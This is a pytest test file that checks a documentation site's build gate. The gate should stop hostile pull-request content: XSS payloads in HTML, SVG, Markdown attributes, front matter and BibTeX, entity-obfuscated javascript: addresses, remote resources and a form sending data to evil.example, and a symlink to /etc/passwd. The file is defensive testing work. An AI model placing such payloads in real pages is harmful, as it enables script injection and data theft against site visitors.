"""Hostile pull requests: each bad input is stopped by `make check` with its file and line.

The inputs are the kinds an independent review got past the old Markdown-only checks: raw
HTML, SVG, entity-encoded addresses, attribute lists, front matter, BibTeX fields, snippets,
symlinks and files served as they are. Each goes through a real build (both engines where it
matters) and the check CLI, as a contributor's pull request would.
"""

from __future__ import annotations

import json
import os
import re
import shutil
from pathlib import Path

import pytest

from _check_support import check
from _support import ROOT, build
from ketamine_tools import csp

# (Markdown appended to a page, words the finding must contain). Every payload is unique, so
# each finding can be traced to its own line.
BODY = [
    ("<script>alert(101)</script>", "inline <script>"),
    ('<script src="https://evil.example/x.js"></script>', "<script> loading"),
    ("<svg/onload=alert(102)>", "`onload=`"),
    ('<img src="logo-x.svg" onerror="alert(103)" alt="x">', "`onerror=`"),
    ('<a href="&#106;avascript:alert(104)">tap</a>', "javascript: address"),
    ('<a href="jav&#x09;ascript:alert(105)">tap</a>', "javascript: address"),
    ('<a href=" JAVASCRIPT:alert(106)">tap</a>', "javascript: address"),
    ('<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxMDcpPC9zY3JpcHQ+">tap</a>', "data:"),
    ('<a href="vbscript:msgbox(108)">tap</a>', "vbscript: address"),
    ("[tap](javascript:alert(109))", "javascript: address"),
    ('<base href="https://evil.example/110/">', "<base>"),
    ('<meta http-equiv="refresh" content="0;url=https://evil.example/111">', "<meta"),
    (
        '<form action="https://evil.example/112"><input name="phone"></form>',
        "<form>",
    ),
    ('<iframe src="https://evil.example/113"></iframe>', "<iframe>"),
    ('<object data="https://evil.example/114.swf"></object>', "<object>"),
    ('<embed src="https://evil.example/115.swf">', "<embed>"),
    ("<style>.urgent-help{display:none} /* 116 */</style>", "<style>"),
    ('<p style="display:none;color:#117">hidden</p>', "`style=`"),
    ('## Tap here 118 { onclick="alert(118)" }', "`onclick=`"),
    ('## Hidden text 119 { style="display:none;color:#119" }', "`style=`"),
    ('<a href="https://example.org/120" ping="https://evil.example/120p">x</a>', "`ping=`"),
    ('<img src="https://evil.example/pixel-121.gif" alt="pixel">', "from another site"),
    (
        '<svg><a xlink:href="javascript:alert(122)"><text>x</text></a></svg>',
        "javascript: address",
    ),
    (
        '<svg><animate attributeName="href" values="javascript:alert(123)"/></svg>',
        "javascript: address",
    ),
    ('<link rel="stylesheet" href="https://evil.example/124.css">', "<link"),
    ('<details ontoggle="alert(125)" open><summary>x</summary></details>', "`ontoggle=`"),
    ('<script type="module">alert(126)</script>', "inline <script>"),
    ('<video poster="https://evil.example/127.png"></video>', "from another site"),
    ('<math><a href="javascript:alert(128)">x</a></math>', "javascript: address"),
    # The theme's own preloads come after the article; a page may not add one, even of a
    # script the site runs.
    ('<link rel="preload" as="script" href="../assets/javascripts/site.js?129">', "<link"),
    ('<link rel="preload" as="style" href="https://evil.example/130.css">', "<link"),
]


@pytest.fixture(scope="module")
def hostile_build(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Path, dict[int, str]]:
    """One copy of the repository with every body payload on its own line of about.md."""
    root = tmp_path_factory.mktemp("hostile")
    for name in ("docs", "includes", "overrides"):
        os.system(f"cp -r {ROOT / name} {root / name}")
    for name in ("mkdocs.yml", "pyproject.toml"):
        (root / name).write_bytes((ROOT / name).read_bytes())
    page = root / "docs" / "about.md"
    text = page.read_text(encoding="utf-8").rstrip("\n") + "\n"
    lines: dict[int, str] = {}
    for payload, _ in BODY:
        text += "\n"
        lines[text.count("\n") + 1] = payload
        text += payload + "\n"
    page.write_text(text, encoding="utf-8")
    site = root / "site"
    result = build(site, cwd=root)
    # The policy step already refuses the page with the inline script; the gate must still
    # name every payload, so it runs on what MkDocs wrote.
    assert "inline script that is not the theme's: 'alert(101)'" in result.stdout, result.stdout
    return root, site, lines


@pytest.mark.slow
@pytest.mark.parametrize(("payload", "words"), BODY, ids=[p for p, _ in BODY])
def test_hostile_markup_is_stopped_at_its_line(
    hostile_build: tuple[Path, Path, dict[int, str]], payload: str, words: str
) -> None:
    root, site, lines = hostile_build
    result = check(root, "published", site=site)
    assert result.code == 1
    line = next(n for n, p in lines.items() if p == payload)
    assert result.has(f"docs/about.md:{line}", words), "\n".join(
        f for f in result.findings if "about" in f
    )


@pytest.mark.slow
def test_clean_site_passes_the_gate_with_both_engines(built_site: Path, project_copy: Path) -> None:
    assert check(ROOT, "published", site=built_site).code == 0
    (project_copy / "pyproject.toml").write_bytes((ROOT / "pyproject.toml").read_bytes())
    result = build(project_copy / "site", cwd=project_copy, engine="zensical")
    assert result.returncode == 0, result.stdout + result.stderr
    gate = check(ROOT, "published", site=project_copy / "site")
    assert gate.code == 0, gate.output


def test_site_built_without_the_csp_step_is_refused(tmp_path: Path) -> None:
    from _support import BIN, run

    site = tmp_path / "s"
    run([str(BIN / "mkdocs"), "build", "--strict", "--site-dir", str(site)])
    result = check(ROOT, "published", site=site)
    assert result.code == 1
    assert result.has("", "no Content Security Policy") or any(
        "no Content Security Policy" in f for f in result.findings
    )


# --- front matter ------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("line", "words"),
    [
        ('title: "</title><script>alert(1)</script>"', "plain text"),
        ('description: "A fine page about things \\"><script>alert(2)</script> ok ok."', "plain"),
        ("template: evil.html", "`template:` is not a front-matter key"),
        ("hide: [banner]", "`hide:` must be a list"),
        ("search: {boost: 1, weight: 2}", "only `boost:` and `exclude:`"),
    ],
)
def test_hostile_front_matter_is_refused(project_copy: Path, line: str, words: str) -> None:
    page = project_copy / "docs" / "faq.md"
    text = page.read_text(encoding="utf-8")
    key = line.split(":")[0]
    kept, dropping = [], False
    for row in text.split("\n---\n", 1)[0].splitlines():
        dropping = row.startswith(key) or (dropping and row.startswith(" "))
        if not dropping:
            kept.append(row)
    body = text.split("\n---\n", 1)[1]
    page.write_text("\n".join([*kept, line, "---", body]), encoding="utf-8")
    (project_copy / "tests").mkdir()
    (project_copy / "tests" / "wordlist.txt").write_bytes(
        (ROOT / "tests/wordlist.txt").read_bytes()
    )
    result = check(project_copy, "frontmatter")
    assert result.code == 1
    assert any(f.startswith("docs/faq.md:") and words in f for f in result.findings), result.output


def test_front_matter_reaches_head_escaped(tmp_path: Path, project_copy: Path) -> None:
    """Even if a hostile title got past the check, the templates escape it."""
    page = project_copy / "docs" / "faq.md"
    text = page.read_text(encoding="utf-8")
    page.write_text(
        re.sub(
            r"^title: .*$", 'title: "Q\\"><img src=x onerror=alert(9)>"', text, count=1, flags=re.M
        ),
        encoding="utf-8",
    )
    site = tmp_path / "s"
    result = build(site, cwd=project_copy)
    assert result.returncode == 0, result.stdout + result.stderr
    head = (site / "faq" / "index.html").read_text(encoding="utf-8").split("</head>")[0]
    assert "<img src=x" not in head
    assert "&lt;img src=x onerror=alert(9)&gt;" in head


# --- BibTeX -------------------------------------------------------------------------------

BIB_CASES = [
    ("doi", '10.1000/x"><script>alert(1)</script>', "is not a DOI"),
    ("pmid", "1<b>2", "digits only"),
    ("pmcid", 'PMC1"onmouseover=x', "PMC and digits only"),
    ("url", "javascript:alert(1)", "must start with https://"),
    ("url", 'https://example.org/"><script>alert(1)</script>', "characters an address cannot hold"),
]


@pytest.mark.parametrize(("field", "value", "words"), BIB_CASES)
def test_hostile_bibtex_fields_are_refused(
    project_copy: Path, field: str, value: str, words: str
) -> None:
    bib = project_copy / "docs" / "references.bib"
    text = bib.read_text(encoding="utf-8")
    entry = "@article{hostile2026,\n  title = {Hostile},\n  year = {2026},\n"
    entry += f"  {field} = {{{value}}},\n  group = {{Crisis support}},\n  note = {{test}}\n}}\n"
    line = text.count("\n") + 2
    bib.write_text(text + "\n" + entry, encoding="utf-8")
    result = check(project_copy, "citations")
    assert any(
        f.startswith(f"docs/references.bib:{line}:") and words in f for f in result.findings
    ), result.output


def test_hostile_bibtex_never_becomes_markup(tmp_path: Path, project_copy: Path) -> None:
    """Titles, authors and identifiers are text on the page, whatever they contain."""
    bib = project_copy / "docs" / "references.bib"
    bib.write_text(
        bib.read_text(encoding="utf-8")
        + "\n@article{hostile2026,\n  title = {<img src=x onerror=alert(31)>},\n"
        "  author = {<script>alert(32)</script>, A.},\n  year = {2026},\n"
        '  doi = {10.1000/x"><svg onload=alert(33)>},\n  group = {Crisis support},\n'
        "  note = {test}\n}\n",
        encoding="utf-8",
    )
    site = tmp_path / "s"
    result = build(site, cwd=project_copy)
    assert result.returncode == 0, result.stdout + result.stderr
    refs = (site / "references" / "index.html").read_text(encoding="utf-8")
    assert "<img src=x" not in refs and "<script>alert" not in refs and "<svg onload" not in refs
    assert check(project_copy, "published", site=site).code == 0


def test_hostile_faq_heading_is_stopped_and_json_ld_stays_text(
    tmp_path: Path, project_copy: Path
) -> None:
    faq = project_copy / "docs" / "faq.md"
    text = faq.read_text(encoding="utf-8").rstrip("\n") + "\n\n"
    line = text.count("\n") + 1
    faq.write_text(
        text + '## Is it <img src="q.png" alt="" onerror="alert(51)"> safe &amp; sound?\n\n'
        "Yes &amp;amp; no.\n",
        encoding="utf-8",
    )
    site = tmp_path / "s"
    assert build(site, cwd=project_copy).returncode == 0
    result = check(project_copy, "published", site=site)
    assert result.has(f"docs/faq.md:{line}", "`onerror=`"), result.output
    html = (site / "faq" / "index.html").read_text(encoding="utf-8")
    data = re.search(
        r'<script type="application/ld\+json">(.*?)</script>',
        html.split("FAQPage")[0][-20:] + html.split("FAQPage", 1)[1] if "FAQPage" in html else "",
        re.S,
    )
    assert "Is it  safe & sound?" in html or '"name": "Is it safe & sound?"' in html
    assert "Yes &amp; no." in html  # the answer's entity decoded once, not twice
    assert data is None or "<img" not in data.group(1)


# --- snippets, symlinks and files served as they are ------------------------------------


def test_hostile_snippet_is_traced_to_the_snippet(tmp_path: Path, project_copy: Path) -> None:
    snippet = project_copy / "includes" / "timeline.md"
    text = snippet.read_text(encoding="utf-8")
    line = text.count("\n") + 2
    snippet.write_text(text + '\n<img src="a.png" alt="x" onerror="alert(41)">\n', "utf-8")
    site = tmp_path / "s"
    assert build(site, cwd=project_copy).returncode == 0
    result = check(project_copy, "published", site=site)
    assert result.has(f"includes/timeline.md:{line}", "`onerror=`"), result.output


def test_symlinks_in_docs_and_includes_are_refused(project_copy: Path) -> None:
    (project_copy / "docs" / "passwd.txt").symlink_to("/etc/passwd")
    (project_copy / "includes" / "more.md").symlink_to(project_copy / "includes" / "timeline.md")
    result = check(project_copy, "assets")
    assert result.has("docs/passwd.txt:1", "symbolic link")
    assert result.has("includes/more.md:1", "symbolic link")


ASSETS = [
    (
        "docs/assets/evil.svg",
        '<svg xmlns="http://www.w3.org/2000/svg">\n<script>alert(1)</script>\n</svg>\n',
        2,
        "<script>",
    ),
    (
        "docs/assets/hover.svg",
        '<svg xmlns="http://www.w3.org/2000/svg">\n<rect onmouseover="x()"/>\n</svg>\n',
        2,
        "onmouseover=",
    ),
    (
        "docs/assets/out.svg",
        '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">\n'
        '<image xlink:href="https://evil.example/p.png"/>\n</svg>\n',
        2,
        "may only point inside itself",
    ),
    ("docs/assets/page.html", "<p>hi</p>\n<img src=x onerror=alert(2)>\n", 2, "onerror="),
    ("docs/assets/x.js", "alert(3)\n", 1, "published as it is"),
]


@pytest.mark.parametrize(("path", "content", "line", "words"), ASSETS, ids=[a[0] for a in ASSETS])
def test_hostile_files_served_as_they_are(
    project_copy: Path, path: str, content: str, line: int, words: str
) -> None:
    (project_copy / path).write_text(content, encoding="utf-8")
    result = check(project_copy, "assets")
    assert result.has(f"{path}:{line}", words), result.output


def test_real_assets_pass(tmp_path: Path) -> None:
    assert check(ROOT, "assets").code == 0


# --- the Content Security Policy step -----------------------------------------------------


def test_csp_step_refuses_an_unknown_inline_script(tmp_path: Path) -> None:
    page = tmp_path / "index.html"
    page.write_text("<html><head></head><body><script>alert(1)</script></body></html>")
    refused = csp.protect(tmp_path)
    assert refused and "not the theme's" in str(refused[0])


def test_csp_hashes_exactly_the_theme_scripts(built_site: Path) -> None:
    html = (built_site / "research" / "index.html").read_text(encoding="utf-8")
    head = html.split("<head>", 1)[1]
    assert head.lstrip().startswith('<meta http-equiv="Content-Security-Policy"')
    policy = re.search(r'Content-Security-Policy" content="([^"]+)"', html)
    assert policy is not None
    for directive in ("object-src 'none'", "base-uri 'none'", "form-action 'none'"):
        assert directive in policy.group(1)
    assert "'unsafe-inline'" not in policy.group(1)
    assert '<meta name="referrer" content="no-referrer">' in html


def test_theme_upgrade_that_changes_an_inline_script_fails_loudly(
    built_site: Path, tmp_path: Path
) -> None:
    known = csp.load_known()
    dropped = dict(list(known.items())[1:])
    page = tmp_path / "index.html"
    page.write_text((built_site / "index.html").read_text(encoding="utf-8"), encoding="utf-8")
    refused = csp.protect(tmp_path, dropped)
    assert refused and "--update" in str(refused[0])


def test_update_keeps_our_templates_scripts_apart_from_the_themes(
    built_site: Path, tmp_path: Path
) -> None:
    """`--update` records the theme's scripts; ours keep their own list and their reasons."""
    known = tmp_path / "theme_scripts.json"
    shutil.copy(csp.KNOWN_FILE, known)
    before = json.loads(known.read_text(encoding="utf-8"))
    assert before["site_scripts"], "overrides/main.html's head script is listed as ours"
    csp.update([built_site], known)
    after = json.loads(known.read_text(encoding="utf-8"))
    assert after["site_scripts"] == before["site_scripts"]
    ours = {entry["fingerprint"] for entry in after["site_scripts"]}
    assert ours.isdisjoint(entry["fingerprint"] for entry in after["scripts"])
    assert set(csp.load_known(known)) >= ours
